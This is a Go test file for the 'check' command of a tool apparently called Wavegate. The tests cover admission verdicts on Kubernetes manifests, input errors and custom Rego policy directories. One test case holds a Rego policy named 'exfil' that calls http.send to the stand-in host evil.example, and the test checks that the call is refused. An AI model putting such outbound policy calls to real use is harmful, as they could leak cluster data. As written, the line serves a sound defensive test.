/*
Copyright 2026 The Wavegate Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package cli

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	. "github.com/onsi/gomega"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// run executes the wavegate command in process and returns stdout, stderr and the exit code.
func run(args ...string) (string, string, int) {
	var out, errOut bytes.Buffer
	cmd := NewRootCommand(&out, &errOut)
	cmd.SetArgs(args)
	cmd.SetErr(&errOut)
	err := cmd.Execute()
	if err != nil {
		errOut.WriteString("Error: " + err.Error() + "\n")
	}
	return out.String(), errOut.String(), ExitCode(err)
}

func samples(parts ...string) string {
	return filepath.Join(append([]string{"..", "..", "config", "samples"}, parts...)...)
}

func TestCheckOutputMatchesTheGoldenFiles(t *testing.T) {
	for _, format := range []string{"text", "json", "junit"} {
		t.Run(format, func(t *testing.T) {
			g := NewWithT(t)
			out, _, code := run("check", "-f", samples("incidents"), "--state", samples("state.yaml"), "--now", "2024-07-18T14:00:00Z", "-o", format)
			g.Expect(code).To(Equal(ExitFailed), "the incidents are denied")
			golden := filepath.Join("testdata", "check."+format+".golden")
			if *update {
				g.Expect(os.WriteFile(golden, []byte(out), 0o600)).To(Succeed())
			}
			want, err := os.ReadFile(golden)
			g.Expect(err).NotTo(HaveOccurred())
			g.Expect(out).To(Equal(string(want)))
		})
	}
}

func TestCheckAdmitsWhatTheGateAdmits(t *testing.T) {
	g := NewWithT(t)
	dir := t.TempDir()
	g.Expect(os.WriteFile(filepath.Join(dir, "ok.yaml"), []byte(`apiVersion: v1
kind: ConfigMap
metadata: {name: settings, namespace: app, labels: {wavegate.io/region: eastus}}
data: {a: b}
`), 0o600)).To(Succeed())
	out, _, code := run("check", "-f", dir, "--state", samples("state.yaml"), "--now", "2024-07-18T14:00:00Z")
	g.Expect(code).To(Equal(ExitOK))
	g.Expect(out).To(Equal("1 manifests checked: 1 allowed, 0 denied\n"))
}

// A ConfigMap with a top-level items array is one manifest, not an empty
// List: read as a List it became zero manifests and the check passed while
// its region is frozen (issue 24).
func TestCheckJudgesAnObjectWithItemsAsOneManifest(t *testing.T) {
	g := NewWithT(t)
	path := filepath.Join(t.TempDir(), "items.yaml")
	g.Expect(os.WriteFile(path, []byte(`apiVersion: v1
kind: ConfigMap
metadata: {name: storage-settings, namespace: storage, labels: {wavegate.io/region: centralus}}
items: []
data: {throttle: "off"}
`), 0o600)).To(Succeed())
	out, errOut, code := run("check", "-f", path, "--state", samples("state.yaml"), "--now", "2024-07-18T14:00:00Z")
	g.Expect(code).To(Equal(ExitFailed), errOut)
	g.Expect(out).To(ContainSubstring(path + ":1: ConfigMap storage/storage-settings: [wavegate:freeze] region centralus is frozen by Freeze inc-20240718-centralus"))
	g.Expect(out).To(HaveSuffix("1 manifests checked: 0 allowed, 1 denied\n"))
}

func TestCheckRejectsBadInputWithExitCode2(t *testing.T) {
	dir := t.TempDir()
	write := func(name, content string) string {
		p := filepath.Join(dir, name)
		NewWithT(t).Expect(os.WriteFile(p, []byte(content), 0o600)).To(Succeed())
		return p
	}
	malformed := write("bad.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: [oops\n")
	badMeta := write("meta.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: 0\n")
	badLabels := write("labels.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, labels: {a: [1]}}\n")
	unknown := write("frieze.yaml", "apiVersion: wavegate.io/v1alpha1\nkind: Frieze\nmetadata: {name: x}\n")
	unnamed := write("unnamed.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {namespace: app}\ndata: {k: v}\n")
	dupYAML := write("dup.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: app}\n---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: b\n  namespace: app\n  labels:\n    wavegate.io/region: eastus\n    wavegate.io/region: centralus\n")
	dupJSON := write("dup.json", `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"b","namespace":"app","labels":{"wavegate.io/region":"eastus","wavegate.io/region":"centralus"}}}`)
	empty := filepath.Join(dir, "empty")
	NewWithT(t).Expect(os.Mkdir(empty, 0o750)).To(Succeed())
	state := samples("state.yaml")

	cases := []struct {
		name string
		args []string
		want string
	}{
		{"malformed YAML names the file and the line", []string{"check", "-f", malformed, "--state", state}, malformed + ": document 1: "},
		{"metadata that is not an object", []string{"check", "-f", badMeta, "--state", state}, badMeta + ":1: invalid metadata of ConfigMap"},
		{"labels that are not strings", []string{"check", "-f", badLabels, "--state", state}, badLabels + ":1: invalid metadata of ConfigMap x"},
		{"a state object whose metadata is not an object", []string{"check", "-f", badLabels, "--state", badMeta}, "invalid --state: ConfigMap : invalid metadata"},
		{"an unknown kind", []string{"check", "-f", unknown, "--state", state}, "unknown kind Frieze in wavegate.io/v1alpha1"},
		{"an object without a name", []string{"check", "-f", unnamed, "--state", state}, unnamed + ": document 2: v1 ConfigMap has no metadata.name; name the object"},
		{"a key written twice in YAML names the file, the document, the key and its path", []string{"check", "-f", dupYAML, "--state", state},
			dupYAML + `: document 2: duplicate key "wavegate.io/region" at metadata.labels["wavegate.io/region"]`},
		{"a key written twice in JSON too", []string{"check", "-f", dupJSON, "--state", state},
			dupJSON + `: document 1: duplicate key "wavegate.io/region" at metadata.labels["wavegate.io/region"]`},
		{"a key written twice in the state", []string{"check", "-f", dupJSON, "--state", dupYAML}, "cannot read --state: " + dupYAML + ": document 2: duplicate key"},
		{"a missing state file", []string{"check", "-f", malformed, "--state", filepath.Join(dir, "nope.yaml")}, "cannot read --state: open " + filepath.Join(dir, "nope.yaml")},
		{"an empty directory", []string{"check", "-f", empty, "--state", state}, empty + " holds no .yaml, .yml or .json files"},
		{"no state at all", []string{"check", "-f", malformed}, "--state FILE is required"},
		{"an output format check does not know", []string{"check", "-f", malformed, "--state", state, "-o", "table"}, `invalid --output "table": use text or json or junit`},
		{"a bad --now", []string{"check", "-f", malformed, "--state", state, "--now", "yesterday"}, `invalid --now "yesterday"`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, errOut, code := run(tc.args...)
			g := NewWithT(t)
			g.Expect(code).To(Equal(ExitUsage), errOut)
			g.Expect(errOut).To(ContainSubstring(tc.want))
		})
	}
	t.Run("the malformed YAML error says which line", func(t *testing.T) {
		_, errOut, _ := run("check", "-f", malformed, "--state", state)
		NewWithT(t).Expect(strings.Contains(errOut, "line")).To(BeTrue(), errOut)
	})
}

// TestCheckJudgesWithTheClusterPoliciesOfPolicyDir: --policy-dir loads
// operators' policies exactly as the manager does, so CI sees the verdicts
// of a cluster that runs them, and the same policies are refused.
func TestCheckJudgesWithTheClusterPoliciesOfPolicyDir(t *testing.T) {
	manifests := t.TempDir()
	NewWithT(t).Expect(os.WriteFile(filepath.Join(manifests, "ok.yaml"), []byte(`apiVersion: v1
kind: ConfigMap
metadata: {name: settings, namespace: app, labels: {wavegate.io/region: eastus}}
data: {a: b}
`), 0o600)).To(Succeed())
	policyDir := func(src string) string {
		dir := t.TempDir()
		NewWithT(t).Expect(os.WriteFile(filepath.Join(dir, "policy.rego"), []byte(src), 0o600)).To(Succeed())
		return dir
	}
	check := func(dir string) (string, string, int) {
		return run("check", "-f", manifests, "--state", samples("state.yaml"), "--now", "2024-07-18T14:00:00Z", "--policy-dir", dir)
	}

	t.Run("a custom denial denies", func(t *testing.T) {
		g := NewWithT(t)
		out, _, code := check(policyDir("package wavegate.custom.no_create\n\ndeny contains {\"rule\": \"no-create\", \"msg\": \"[wavegate:no-create] creates are off today; try tomorrow\"} if input.request.operation == \"CREATE\"\n"))
		g.Expect(code).To(Equal(ExitFailed))
		g.Expect(out).To(ContainSubstring("ConfigMap app/settings: [wavegate:no-create] creates are off today; try tomorrow"))
	})
	for _, tc := range []struct{ name, src, want string }{
		{"a package outside wavegate.custom is bad input", "package wavegate.main\n\ndeny := set()\n", "policy.rego declares package wavegate.main"},
		{"a forbidden builtin is bad input", "package wavegate.custom.exfil\n\nwarn contains {\"rule\": \"x\", \"msg\": \"x\"} if http.send({\"method\": \"GET\", \"url\": \"http://evil.example\"})\n", "undefined function http.send"},
		{"a policy that does not compile is bad input", "package wavegate.custom.broken\n\ndeny contains x if {", "failed to parse the custom policy"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			_, errOut, code := check(policyDir(tc.src))
			g.Expect(code).To(Equal(ExitUsage), errOut)
			g.Expect(errOut).To(ContainSubstring("invalid --policy-dir"))
			g.Expect(errOut).To(ContainSubstring(tc.want))
		})
	}
	t.Run("a missing directory is bad input", func(t *testing.T) {
		_, errOut, code := check(filepath.Join(t.TempDir(), "nope"))
		NewWithT(t).Expect(code).To(Equal(ExitUsage), errOut)
	})
	t.Run("a policy slower than --policy-eval-timeout fails the check, as the webhook denies", func(t *testing.T) {
		g := NewWithT(t)
		dir := policyDir("package wavegate.custom.slow\n\ndeny contains {\"rule\": \"slow\", \"msg\": \"[wavegate:slow] never; none\"} if {\n" +
			"\tsome i in numbers.range(1, 100000)\n\tsome j in numbers.range(1, 100000)\n\ti == j + 100000\n}\n")
		_, errOut, code := run("check", "-f", manifests, "--state", samples("state.yaml"), "--now", "2024-07-18T14:00:00Z",
			"--policy-dir", dir, "--policy-eval-timeout", "50ms")
		g.Expect(code).To(Equal(ExitFailed), errOut)
		g.Expect(errOut).To(ContainSubstring("--policy-eval-timeout"))
	})
}
